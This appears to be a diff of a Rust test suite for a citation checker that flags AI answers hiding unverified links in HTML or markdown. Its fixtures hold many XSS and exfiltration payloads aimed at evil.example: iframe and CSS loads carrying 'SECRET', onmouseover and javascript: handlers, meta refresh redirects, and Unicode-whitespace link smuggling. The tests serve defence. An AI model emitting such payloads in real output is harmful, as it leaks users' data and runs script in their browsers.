@@ -1,7 +1,7 @@
 //! What an answer must not hide from the check of its citations.
 
 use textsearch_kernel::{
-    citations::{Sources, check_citations},
+    citations::{CitationKind, Sources, check_citations},
     textsearch_core::TextSearchResult,
 };
 
@@ -31,6 +31,13 @@ fn assert_reports(answer: &str, target: &str) {
     assert!(found.iter().any(|one| one == target), "{answer}: {found:?}");
 }
 
+#[track_caller]
+fn assert_refused(answer: &str) {
+    let citations = check_citations(answer, &sources());
+    let refused = citations.iter().find(|one| one.kind == CitationKind::Html);
+    assert!(refused.is_some_and(|one| !one.is_supported()), "{answer}: {citations:?}");
+}
+
 #[test]
 fn what_reads_like_an_attribute_hides_no_address_after_it() {
     for (answer, target) in [
@@ -44,10 +51,6 @@ fn what_reads_like_an_attribute_hides_no_address_after_it() {
         ),
         (
             "<div>src=\"https://known.example/1# <a href=https://evil.example/x>read</a> \"</div>",
-            "https://evil.example/x",
-        ),
-        (
-            "<div>src=https://known.example/1#<a/href=https://evil.example/x>read</a></div>",
             "https://evil.example/x",
         ),
         (
@@ -68,16 +71,48 @@ fn what_reads_like_an_attribute_hides_no_address_after_it() {
 }
 
 #[test]
-fn an_address_that_has_swallowed_what_follows_is_not_supported() {
-    for address in [
-        "https://known.example/1#'",
-        "https://known.example/1# x",
-        "https://known.example/1#<a",
-        "https://known.example/1#>",
-        "https://known.example/1#`",
-    ] {
-        assert_reports(&format!("<a href=\"{address}\">x</a>"), address);
+fn an_attribute_with_markup_in_it_is_refused() {
+    for address in ["https://known.example/1#<a", "https://known.example/1#>", "/1#`"] {
+        assert_refused(&format!("<a href=\"{address}\">x</a>"));
     }
+    assert_refused(
+        "<div>src=https://known.example/1#<a/href=https://evil.example/x>read</a></div>",
+    );
+}
+
+#[test]
+fn markup_that_goes_on_in_markdown_is_refused() {
+    for answer in [
+        "<iframe title='\n\n' src=//evil.example/?SECRET x",
+        "<link title='\n\n' rel=stylesheet href=//evil.example/x x",
+        "<div title='\n\n' onmouseover=alert(1) x",
+        "<div title='\n\n`' onmouseover=alert(1) x`",
+        "<div title='\n\n' style=background:url(//evil.example/x) x",
+        "<div><style>\n\n{} body{background:url(//evil.example/x)}",
+        "a <style> `{} body{background:url(//evil.example/x)}`",
+        "<svg><a><animate attributeName=href values=\"javascript:alert(1)\"/>",
+        "<svg><set attributeName=href to=\"/\\evil.example/x\"/>",
+        "<meta http-equiv=refresh content=\"0;\\\\evil.example/x\">",
+        "<img attributionsrc=\"\\\\evil.example/x\">",
+        "<p><applet code=x></p>",
+    ] {
+        assert_refused(answer);
+    }
+}
+
+#[test]
+fn white_space_beyond_ascii_is_a_part_of_a_link() {
+    for answer in [
+        "<a href=https://host.example\u{a0}@evil.example/x>x</a>",
+        "See https://host.example\u{a0}@evil.example/x",
+        "<img src=https://known.example/1\u{a0}?q=SECRET>",
+        "See https://known.example/1\u{a0}?q=SECRET",
+        "![](https://known.example/1\u{2000}\u{2001}\u{2000})",
+        "[x](<https://known.example/1\u{2003}>)",
+    ] {
+        assert_ne!(unsupported(answer), [""; 0], "{answer}");
+    }
+    assert_eq!(unsupported("https://known.example/1\u{a0}; so"), [""; 0]);
 }
 
 #[test]
@@ -137,17 +172,17 @@ fn the_beginning_of_a_link_alone_is_none() {
 }
 
 #[test]
-fn a_link_without_a_scheme_counts_in_html_wherever_it_is() {
-    for (answer, target) in [
-        ("<div style=\"background:url(//evil.example/x)\">a</div>", "//evil.example/x"),
-        ("<div style=\"background:url( '//evil.example/x')\">a</div>", "//evil.example/x"),
-        ("<div style=\"background:url(&quot;//evil.example/x&quot;)\">a</div>", "//evil.example/x"),
-        ("<style>\n@import '//evil.example/x';\n</style>", "//evil.example/x"),
-        ("<img data-src=//evil.example/x>", "//evil.example/x"),
-        ("<a href=\"https&#58;//evil.example\">x</a>", "https://evil.example"),
+fn html_that_loads_by_a_style_or_another_attribute_is_refused() {
+    for answer in [
+        "<div style=\"background:url(//evil.example/x)\">a</div>",
+        "<b style=\"background:\\75rl(/\\/evil.example/x)\">a</b>",
+        "<b style='background:image-set(\"/x.png\" 1x)'>a</b>",
+        "<style>\n@import '//evil.example/x';\n</style>",
+        "so <style>@import url(/x.css);</style>",
+        "<img data-src=//evil.example/x>",
+        "<meta http-equiv=refresh content=\"0; url=/x\">",
     ] {
-        let found = unsupported(answer);
-        assert!(found.iter().any(|one| one.starts_with(target)), "{answer}: {found:?}");
+        assert_refused(answer);
     }
 }
 
@@ -212,13 +247,7 @@ fn escapes_in_html_hide_no_address() {
         ("<a href=https&colon;&#x2f;&#47evil.example>x</a>", "https://evil.example"),
         ("<p><img src='&#104ttps://evil.example/x'></p>", "https://evil.example/x"),
         ("<p>https&colon;//evil.example/x</p>", "https://evil.example/x"),
-        ("<b style=\"background:\\75rl(/\\/evil.example/x)\">a</b>", "//evil.example/x"),
-        ("<b style='background:url(\"\\68 ttps:evil.example\")'>a</b>", "https:evil.example"),
-        ("<b style='background:image-set(\"/x.png\" 1x)'>a</b>", "/x.png"),
-        ("<b style='background:image-set(url(a) 1x, \"/x\" 2x)'>a</b>", "/x"),
-        ("<style>@import \"x.css\";</style>", "x.css"),
-        ("so <style>@import url(/x.css);</style>", "/x.css"),
-        ("<meta http-equiv=refresh content=\"0; url=/x\">", "/x\""),
+        ("<a href=\"https&#58;//evil.example\">x</a>", "https://evil.example"),
     ] {
         assert_reports(answer, target);
     }
@@ -227,13 +256,10 @@ fn escapes_in_html_hide_no_address() {
 #[test]
 fn programs_in_html_are_never_supported() {
     let link = "https://known.example/1";
-    assert_reports(
-        &format!("<b onclick=\"location='{link}'\">x</b>"),
-        "location='https://known.example/1'",
-    );
-    assert_reports(&format!("<p onload={link}>x</p>"), link);
-    assert_reports(&format!("<iframe srcdoc=\"{link}\">x</iframe>"), link);
-    assert_reports("<script>\nlocation = name\n</script>", "<script>");
+    assert_refused(&format!("<b onclick=\"location='{link}'\">x</b>"));
+    assert_refused(&format!("<p onload={link}>x</p>"));
+    assert_refused(&format!("<iframe srcdoc=\"{link}\">x</iframe>"));
+    assert_refused("<script>\nlocation = name\n</script>");
 }
 
 #[test]
